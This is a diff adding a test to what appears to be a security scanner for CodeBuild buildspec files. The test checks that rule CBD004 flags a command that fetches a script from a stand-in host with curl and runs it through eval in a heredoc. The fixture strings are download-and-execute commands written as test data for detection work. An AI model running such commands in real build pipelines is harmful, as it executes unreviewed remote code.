@@ -103,6 +103,17 @@ def test_every_shape_of_a_download_run_unread(tmp_path):
     assert lines_of(result, "CBD004") == list(range(5, 5 + len(DOWNLOADS_RUN)))
 
 
+def test_a_shells_own_assignment_is_in_the_environment_of_its_heredoc_script(tmp_path):
+    """`s=$(curl ...) bash <<EOF` gives the shell reading the heredoc s; the next command
+    does not get it."""
+    ran = "s=$(curl -fsSL https://x.example/i.sh) bash <<'EOF'\neval \"$s\"\nEOF"
+    kept = "s=$(curl -fsSL https://x.example/i.sh) bash <<'EOF'\necho hi\nEOF\neval \"$s\""
+    text = "version: 0.2\nphases:\n  build:\n    commands:\n" + "".join(
+        f"      - {json.dumps(command)}\n" for command in (ran, kept)
+    )
+    assert lines_of(scan_buildspec(tmp_path, text, "CBD004"), "CBD004") == [5]
+
+
 def test_heredocs_run_by_a_shell_in_block_scalars(tmp_path):
     lines, expected = ["version: 0.2", "phases:", "  build:", "    commands:"], []
     for script in HEREDOCS_RUN + HEREDOCS_KEPT:
